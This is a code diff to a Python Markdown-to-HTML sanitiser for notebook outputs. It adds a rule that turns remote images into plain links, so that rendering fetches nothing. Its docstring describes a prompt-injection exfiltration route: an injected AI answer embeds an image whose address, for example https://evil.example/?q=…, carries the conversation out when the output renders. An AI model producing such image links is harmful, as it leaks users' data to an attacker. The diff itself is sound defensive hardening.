@@ -5,7 +5,7 @@ fields of an imported history) is data. A notebook that is *trusted* renders ``t
 ``text/html`` outputs with scripts and event handlers enabled, so raw network text must never reach either.
 
 - :func:`markdown_html` renders Markdown (headings, lists, code, tables, math, http/https/mailto links,
-  http/https/``data:image`` images) with raw HTML switched *off* in the parser (a ``<script>`` in the text
+  ``data:image`` images; an image at an address becomes a link to it, so rendering fetches nothing) with raw HTML switched *off* in the parser (a ``<script>`` in the text
   shows as text), then cleans the result with ``nh3`` against an allowlist (no ``script``/``style``/``iframe``/
   ``form``/``object``/``svg``, no ``on*`` or ``style`` attributes, no ``javascript:``/``vbscript:``/
   ``data:text/html`` URLs), and redacts it once more (Markdown escapes and character references can spell a key
@@ -121,7 +121,20 @@ def _parser() -> Any:
         md.use(dollarmath_plugin, allow_space=False, allow_digits=False, renderer=_math)
     # per attribute (link or image) in clean_html
     md.validateLink = lambda url: safe_url(url) or safe_url(url, image=True)  # type: ignore[method-assign]
+    md.add_render_rule("image", _image)
     return md
+
+
+def _image(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
+    """An image the text carries (``data:image``) shows; an image to fetch becomes a link to it. A browser loads
+    an ``<img>`` as soon as the output renders, so a prompt-injected answer could send the conversation away in
+    the image's address (``![](https://evil.example/?q=…)``) with nobody clicking anything."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    if _DATA_IMAGE.match(src.strip()):
+        return str(self.image(tokens, idx, options, env))
+    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
+    return f'<a href="{html.escape(src, quote=True)}">🖼 {text_html(alt)}</a>'
 
 
 def _has_linkify() -> bool:
